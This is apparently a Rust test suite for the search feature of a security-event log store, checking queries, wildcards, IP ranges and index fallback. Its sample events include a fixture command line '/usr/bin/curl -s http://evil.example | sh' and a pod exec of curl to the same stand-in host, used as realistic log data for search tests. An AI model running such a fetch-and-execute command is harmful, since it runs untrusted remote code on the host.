//! The search: what it finds is what the meaning of the query says, whether by index or by reading everything.

use crate::{support, tallies};

use casebook_event::{Event, FieldId, Source, Timestamp, Value};
use casebook_store::{SearchRequest, Store, StoreConfig, query_matches};
use proptest::prelude::*;
use support::{DAY, as_stored, at, commit, event, files, open, plain, range};

fn ask(query: &str) -> SearchRequest {
    SearchRequest {
        query: query.into(),
        limit: 10_000,
        ..SearchRequest::default()
    }
}

async fn offsets(store: &Store, request: SearchRequest) -> Vec<i64> {
    let mut found: Vec<i64> = store
        .search(request)
        .await
        .unwrap()
        .rows
        .iter()
        .map(|row| row.position.offset)
        .collect();
    found.sort_unstable();
    found
}

fn sample() -> Vec<Event> {
    let f = |pairs: &[(FieldId, Value)], n: i64, raw: &str| event(n, pairs, raw);
    use FieldId as F;
    vec![
        f(
            &[
                (F::EventAction, "create".into()),
                (F::OrchestratorNamespace, "prod".into()),
                (F::OrchestratorResourceType, "pods".into()),
                (F::OrchestratorResourceSubresource, "exec".into()),
                (F::SourceIp, "10.0.12.7".into()),
                (
                    F::RelatedIps,
                    ["10.0.12.7", "fe80::1", "198.51.100.66", "10.9.9.9"]
                        .into_iter()
                        .map(Value::str)
                        .collect(),
                ),
                (
                    F::ClaimedIps,
                    // The caller may claim the very address it has: that it came from there is true all the same.
                    ["198.51.100.66", "10.9.9.9", "10.0.12.7"]
                        .into_iter()
                        .map(Value::str)
                        .collect(),
                ),
                (F::HttpResponseStatusCode, 101.into()),
                (F::UserName, "system:serviceaccount:prod:Deployer".into()),
            ],
            0,
            r#"{"verb":"create","objectRef":{"resource":"pods","subresource":"exec","uid":"0d9e1ca2-5a1f-4c0b-9d2e-0123456789ab"},"requestURI":"/api/v1/namespaces/prod/pods/web-0/exec?command=curl&command=http%3A%2F%2Fevil.example","sourceIPs":["10.0.12.7"],"count":100.0}"#,
        ),
        f(
            &[
                (
                    F::Message,
                    "Failed password for invalid user admin from 203.0.113.9 port 22 ssh2".into(),
                ),
                (F::EventOutcome, "failure".into()),
                (F::SourceIp, "203.0.113.9".into()),
                (
                    F::ProcessCommandLine,
                    "/usr/bin/curl -s http://evil.example | sh".into(),
                ),
            ],
            1,
            "May  1 10:00:00 node-1 sshd[42]: Failed password for invalid user admin from 203.0.113.9 port 22 ssh2",
        ),
        f(
            &[
                (F::Message, "line one\nline \"two\" 用户登录失败 Ünïcode".into()),
                (F::LogLevel, "error".into()),
            ],
            2,
            r#"{"log":"{\"level\":\"error\",\"msg\":\"line one\\nline\",\"user\":{\"name\":\"bob\"}}\n","msg":"line one\nline \"two\" 用户登录失败 \u00dcn\u00efcode"}"#,
        ),
        f(
            &[(F::HttpResponseStatusCode, 503.into()), (F::UrlPath, "/a/b".into())],
            3,
            r"level=warn path=C:\new\x status=503",
        ),
        plain(4),
    ]
}

#[tokio::test]
async fn what_queries_find() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path()).await;
    store
        .commit_events(commit(sample(), vec![], range(0, 0, 5)))
        .await
        .unwrap();
    let check = async |query: &str, want: &[i64]| {
        let answer = store
            .search(ask(query))
            .await
            .unwrap_or_else(|error| panic!("{query}: {error}"));
        let mut found: Vec<i64> = answer.rows.iter().map(|row| row.position.offset).collect();
        found.sort_unstable();
        assert_eq!(found, want, "{query}");
        assert_eq!(
            (answer.files.indexed + answer.files.pruned, answer.files.scanned),
            (1, 0),
            "{query}"
        );
        assert_eq!(answer.matched as usize, want.len());
    };
    check("", &[0, 1, 2, 3, 4]).await;
    check("curl", &[0]).await;
    check("CURL", &[0]).await;
    check("cur", &[]).await;
    check("cur*", &[0]).await;
    check("*serve*", &[]).await;
    check("\"failed password\"", &[1]).await;
    check("\"password failed\"", &[]).await;
    check("203.0.113.9", &[1]).await;
    check("203.0.113", &[1]).await;
    check("03.0.113.9", &[]).await;
    check("sshd[42]", &[1]).await;
    check("/api/v1/namespaces", &[0]).await;
    check("0d9e1ca2-5a1f-4c0b-9d2e-0123456789ab", &[0]).await;
    check("0d9e1ca2", &[0]).await;
    check("9d2e", &[0]).await;
    check("9d2e-0123456789ab", &[0]).await;
    check("0d9e1*", &[0]).await;
    check("登录", &[2]).await;
    check("\"录失\"", &[2]).await;
    check("ünïcode", &[2]).await;
    check("\"line \\\"two\\\"\"", &[2]).await;
    check("new", &[]).await;
    check("verb:create AND namespace:PROD", &[0]).await;
    check("event.action:create -namespace:prod", &[]).await;
    check("NOT source.ip:*", &[2, 3, 4]).await;
    check("ip:10.0.0.0/8", &[0]).await;
    check("ip:fe80::/16", &[0]).await;
    check("ip:FE80:0::1%eth0", &[0]).await;
    check("ip:10.0.12.7", &[0]).await;
    // What a client claims is found under a name that says so, and as one of all addresses, but not as where anything was.
    check("ip:198.51.100.66", &[]).await;
    check("ip:198.51.100.0/24", &[]).await;
    check("ip:10.9.0.0/16", &[]).await;
    check("casebook.claimed_ip:198.51.100.66", &[0]).await;
    check("claimed_ip:10.9.0.0/16", &[0]).await;
    check("related.ip:198.51.100.66", &[0]).await;
    check("NOT ip:198.51.100.66 AND related.ip:*", &[0]).await;
    check("ip:10.0.12.*", &[0]).await;
    check("related.ip:fe80\\:\\:1", &[0]).await;
    check("status:>=500", &[3]).await;
    check("status:[100 TO 200]", &[0]).await;
    check("status:(101 OR 503)", &[0, 3]).await;
    check("status:*", &[0, 3]).await;
    check("user:*deployer", &[0]).await;
    check("user:/serviceaccount:(prod|dev)/", &[0]).await;
    check("/pass\\w+ for/", &[1]).await;
    check("message:\"invalid user\"", &[1]).await;
    check("message:invali", &[]).await;
    check("message:two", &[2]).await;
    check("cmd:curl", &[1]).await;
    check("cmd:/usr/bin/curl", &[1]).await;
    check("CommandLine:evil.example", &[1]).await;
    check("objectRef.resource:pods", &[0]).await;
    check("objectRef.subresource:exe?", &[0]).await;
    check("objectRef.nothing:*", &[]).await;
    check("count:100", &[0]).await;
    check("user.name:bob", &[]).await;
    check("level:error", &[2]).await;
    check("source:kubernetes_audit path:/a/b", &[3]).await;
    check("event_id:00000000000000000000000000000002", &[1]).await;
    check("offset:>=3", &[3, 4]).await;
    check("topic:logs partition:0 row4", &[4]).await;
    check("time:2024-05-01T00:00:03.123456789Z", &[3]).await;
    check("time:[2024-05-01T00:00:01Z TO 2024-05-01T00:00:03Z]", &[1, 2]).await;
    check("time:2024-05-02", &[]).await;
    check("status=503", &[3]).await;
    check("level=warn OR (verb AND get)", &[3, 4]).await;
}

#[tokio::test]
async fn events_come_back_as_they_were() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path()).await;
    let events = sample();
    let want: Vec<Event> = events.iter().rev().map(as_stored).collect();
    store
        .commit_events(commit(events, vec![], range(0, 0, 5)))
        .await
        .unwrap();
    assert_eq!(store.search(ask("")).await.unwrap().rows, want);
    assert_eq!(want[4].to_ecs().str_at(&["event", "action"]), Some("create"));
}

#[tokio::test]
async fn the_newest_and_the_oldest_come_first_and_files_are_left_out() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path()).await;
    for n in 0..6 {
        let mut event = plain(n);
        event.time = Timestamp::from_seconds(DAY + n * 86_400);
        if n == 2 {
            event.source = Source::Auth;
        }
        store
            .commit_events(commit(vec![event], vec![], range(0, n, n + 1)))
            .await
            .unwrap();
    }
    let newest = store
        .search(SearchRequest {
            limit: 2,
            ..ask("alice OR row*")
        })
        .await
        .unwrap();
    assert_eq!(
        newest.rows.iter().map(|r| r.position.offset).collect::<Vec<_>>(),
        [5, 4]
    );
    assert!(!newest.counted_all && newest.files.unread > 0, "{newest:?}");
    let oldest = store
        .search(SearchRequest {
            limit: 2,
            newest_first: false,
            ..ask("row*")
        })
        .await
        .unwrap();
    assert_eq!(
        oldest.rows.iter().map(|r| r.position.offset).collect::<Vec<_>>(),
        [0, 1]
    );
    let count = SearchRequest {
        limit: 0,
        ..ask("row*")
    };
    assert_eq!(store.search(count).await.unwrap().matched, 6);

    let day = 86_400;
    let some = SearchRequest {
        from: Some(at(day)),
        to: Some(at(3 * day)),
        ..ask("")
    };
    let answer = store.search(some.clone()).await.unwrap();
    assert_eq!(
        answer.rows.iter().map(|r| r.position.offset).collect::<Vec<_>>(),
        [2, 1]
    );
    assert_eq!(
        (answer.files.total, answer.files.pruned, answer.counted_all),
        (6, 4, true)
    );
    let auth = SearchRequest {
        sources: vec![Source::Auth],
        ..some
    };
    let answer = store.search(auth.clone()).await.unwrap();
    assert_eq!((answer.rows.len(), answer.files.pruned), (1, 5));
    assert_eq!(offsets(&store, auth).await, [2]);
}

#[tokio::test]
async fn a_file_without_a_usable_index_is_read() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path()).await;
    for n in 0..3 {
        store
            .commit_events(commit(vec![plain(n), plain(n + 10)], vec![], range(0, n, n + 1)))
            .await
            .unwrap();
    }
    let index = |n: usize| dir.path().join(&files(dir.path(), ".idx")[n]);
    let (gone, changed) = (index(0), index(1));
    std::fs::remove_file(&gone).unwrap();
    let whole = std::fs::read(&changed).unwrap();
    for damage in 0..4 {
        let mut bytes = whole.clone();
        match damage {
            0 => bytes.truncate(whole.len() / 2),
            1 => bytes.iter_mut().step_by(101).for_each(|byte| *byte ^= 0x55),
            2 => bytes.clear(),
            _ => bytes[..whole.len() / 2].fill(0),
        }
        std::fs::write(&changed, &bytes).unwrap();
        let answer = store.search(ask("row11 OR user:alice")).await.unwrap();
        assert_eq!(answer.matched, 6, "damage {damage}");
        assert_eq!((answer.files.indexed, answer.files.scanned), (1, 2), "damage {damage}");
    }
    // The bundle of another file is none of this one.
    store
        .commit_events(commit(vec![plain(20)], vec![], range(0, 3, 4)))
        .await
        .unwrap();
    std::fs::copy(index(2), &changed).unwrap();
    assert_eq!(store.search(ask("user:alice")).await.unwrap().matched, 7);
}

#[tokio::test]
async fn errors_name_the_place() {
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path()).await;
    let error = store.search(ask("verb:get AND (x")).await.unwrap_err().to_string();
    assert!(error.contains("character 14"), "{error}");
}

/// Words that meet each other in odd ways: parts of one another, of UUIDs and addresses, with escapes and without.
const WORDS: &[&str] = &[
    "curl",
    "Curl",
    "cur",
    "curly",
    "a",
    "1",
    "10",
    "10.0.0.1",
    "110.0.0.1",
    "10.0.0.1.5",
    "beef",
    "deadbeef",
    "deadbeef-beef-dead-beef-deadbeefdead",
    "登录",
    "用登录",
    "É",
    "/usr/bin/curl",
    "kube-system",
    "x=y",
    "v1.2",
    "2024-05-01T10:22:33.123Z",
    "01t10",
    "a\"b",
    "tab\tbed",
    "back\\slash",
    "<b>",
    "200",
    "404",
    "true",
    "null",
    "\u{1f}unit",
    "key",
];

fn word() -> impl Strategy<Value = String> {
    prop_oneof![
        8 => proptest::sample::select(WORDS).prop_map(str::to_owned),
        1 => "[a-f0-9]{1,8}",
        1 => "[a-c]{60,70}",
    ]
}

pub fn arbitrary_event() -> impl Strategy<Value = Event> {
    let fields = proptest::collection::vec(
        (
            proptest::sample::select(
                &[
                    FieldId::UserName,
                    FieldId::SourceIp,
                    FieldId::EventAction,
                    FieldId::Message,
                    FieldId::ProcessCommandLine,
                    FieldId::EventKind,
                    FieldId::ProcessExecutable,
                    FieldId::ProcessName,
                ][..],
            ),
            proptest::collection::vec(word(), 1..3).prop_map(|words| words.join(" ")),
        ),
        0..5,
    );
    let raw = (proptest::collection::vec((word(), word()), 0..5), 0..5u8).prop_map(|(pairs, form)| match form {
        0 => pairs
            .iter()
            .map(|(a, b)| format!("{a} {b}"))
            .collect::<Vec<_>>()
            .join(" "),
        1 => pairs
            .iter()
            .map(|(a, b)| format!("{a}={b}"))
            .collect::<Vec<_>>()
            .join(" "),
        form => {
            let object: serde_json::Map<String, serde_json::Value> = pairs
                .into_iter()
                .map(|(a, b)| (a, serde_json::Value::String(b)))
                .collect();
            let text = serde_json::Value::Object(object).to_string();
            match form {
                2 => text,
                3 => serde_json::json!({"log": text, "key": {"inner": "curl"}}).to_string(),
                _ => serde_json::json!({"log": text.replace('u', "\\u0075"), "n": 404}).to_string(),
            }
        }
    });
    let status = proptest::option::of(proptest::sample::select(&[200i64, 404, 500][..]));
    (fields, raw, status, 0..3i64).prop_map(|(fields, raw, status, day)| {
        let mut pairs: Vec<(FieldId, Value)> = fields.into_iter().map(|(id, text)| (id, Value::from(text))).collect();
        if let Some(status) = status {
            pairs.push((FieldId::HttpResponseStatusCode, status.into()));
        }
        let mut event = event(0, &pairs, &raw);
        event.time = Timestamp::from_nanos(at(day * 86_400).as_nanos() + 1);
        if day == 2 {
            event.source = Source::Auth;
        }
        event
    })
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\""))
}

fn value() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => word().prop_map(|word| quoted(&word)),
        2 => (word(), word()).prop_map(|(a, b)| quoted(&format!("{a} {b}"))),
        1 => Just("*".to_owned()),
        2 => (word(), 0..4u8).prop_map(|(word, form)| {
            let mut escaped = String::new();
            for c in word.chars() {
                if !c.is_alphanumeric() {
                    escaped.push('\\');
                }
                escaped.push(c);
            }
            match form {
                0 => format!("{escaped}*"),
                1 => format!("*{escaped}"),
                2 => format!("*{escaped}*"),
                _ => format!("{}?*", escaped.chars().next().filter(|c| c.is_alphanumeric()).unwrap_or('c')),
            }
        }),
        1 => Just("/cu.l/".to_owned()),
        1 => Just("/[0-9]+z?/".to_owned()),
    ]
}

fn leaf() -> impl Strategy<Value = String> {
    let field = proptest::sample::select(
        &[
            "user",
            "source.ip",
            "verb",
            "message",
            "cmd",
            "event.kind",
            "Image",
            "key",
            "key.inner",
            "curl",
            "log",
            "source",
            "status",
            "ip",
        ][..],
    );
    prop_oneof![
        3 => value(),
        4 => (field, value()).prop_map(|(field, value)| format!("{field}:{value}")),
        1 => Just("status:>=400".to_owned()),
        1 => Just("status:{200 TO *]".to_owned()),
        1 => Just("ip:10.0.0.0/8".to_owned()),
        1 => Just("time:2024-05-02".to_owned()),
        1 => Just("user:[a TO d}".to_owned()),
        1 => Just("n:404".to_owned()),
        1 => Just("curl:curl".to_owned()),
    ]
}

pub fn query() -> impl Strategy<Value = String> {
    leaf().prop_recursive(3, 12, 3, |inner| {
        prop_oneof![
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a} AND {b})")),
            (inner.clone(), inner.clone()).prop_map(|(a, b)| format!("({a} OR {b})")),
            inner.prop_map(|a| format!("(NOT {a})")),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    #[test]
    fn the_index_finds_what_the_meaning_says(
        mut events in proptest::collection::vec(arbitrary_event(), 1..40),
        queries in proptest::collection::vec(query(), 12),
    ) {
        for (n, event) in events.iter_mut().enumerate() {
            event.position.offset = n as i64;
            event.id = casebook_event::EventId::from_u128(n as u128);
        }
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(async {
            let dir = tempfile::tempdir().unwrap();
            let store = open(dir.path()).await;
            let found: Vec<Event> = events.iter().map(as_stored).collect();
            let end = events.len() as i64;
            store.commit_events(commit(events, vec![], range(0, 0, end))).await.unwrap();
            let mut answers = Vec::new();
            for query in &queries {
                let want: Vec<i64> = found
                    .iter()
                    .filter(|event| query_matches(query, event).unwrap_or_else(|error| panic!("{query}: {error}")))
                    .map(|event| event.position.offset)
                    .collect();
                let answer = store.search(ask(query)).await.unwrap();
                assert_eq!(answer.files.scanned, 0);
                assert_eq!(answer.matched as usize, want.len(), "{query}");
                let mut got: Vec<i64> = answer.rows.iter().map(|row| row.position.offset).collect();
                got.sort_unstable();
                assert_eq!(got, want, "{query}");
                let count = SearchRequest { limit: 0, ..ask(query) };
                assert_eq!(store.search(count).await.unwrap().matched as usize, want.len(), "{query}");
                tallies::check(&store, query, &answer.rows).await;
                answers.push(answer.rows);
            }
            tallies::check(&store, "", &found).await;
            std::fs::remove_dir_all(dir.path().join("events/_casebook_index")).unwrap();
            for (query, rows) in queries.iter().zip(answers) {
                let answer = store.search(ask(query)).await.unwrap();
                assert_eq!(answer.files.indexed, 0);
                assert_eq!(answer.rows, rows, "{query}");
            }
        });
    }
}

#[tokio::test]
async fn the_config_may_leave_out_the_index() {
    let dir = tempfile::tempdir().unwrap();
    let config = StoreConfig {
        write_index: false,
        ..StoreConfig::default()
    };
    let store = Store::open(dir.path().to_str().unwrap(), config).await.unwrap();
    store
        .commit_events(commit(sample(), vec![], range(0, 0, 5)))
        .await
        .unwrap();
    assert_eq!(offsets(&store, ask("curl")).await, [0]);
}

#[tokio::test]
async fn a_wildcard_longer_than_an_indexed_value_finds_it() {
    // Values are indexed cut short; a search that asked for more of them than there is found nothing.
    let long = format!("{}tail", "é".repeat(100));
    let odd = "before\u{1e}after";
    let user = |n, name: &str| event(n, &[(FieldId::UserName, name.into())], "{}");
    let dir = tempfile::tempdir().unwrap();
    let store = open(dir.path()).await;
    let events = vec![user(0, &long), user(1, odd), user(2, "other")];
    store
        .commit_events(commit(events, vec![], range(0, 0, 3)))
        .await
        .unwrap();
    let check = async |query: String, want: &[i64]| {
        assert_eq!(offsets(&store, ask(&query)).await, want, "{query}");
    };
    check(format!("user.name:{}*", &long[..190]), &[0]).await;
    check(format!("user.name:{}x*", &long[..190]), &[]).await;
    check("user.name:before\u{1e}a*".to_owned(), &[1]).await;
    check("user.name:oth*".to_owned(), &[2]).await;
}
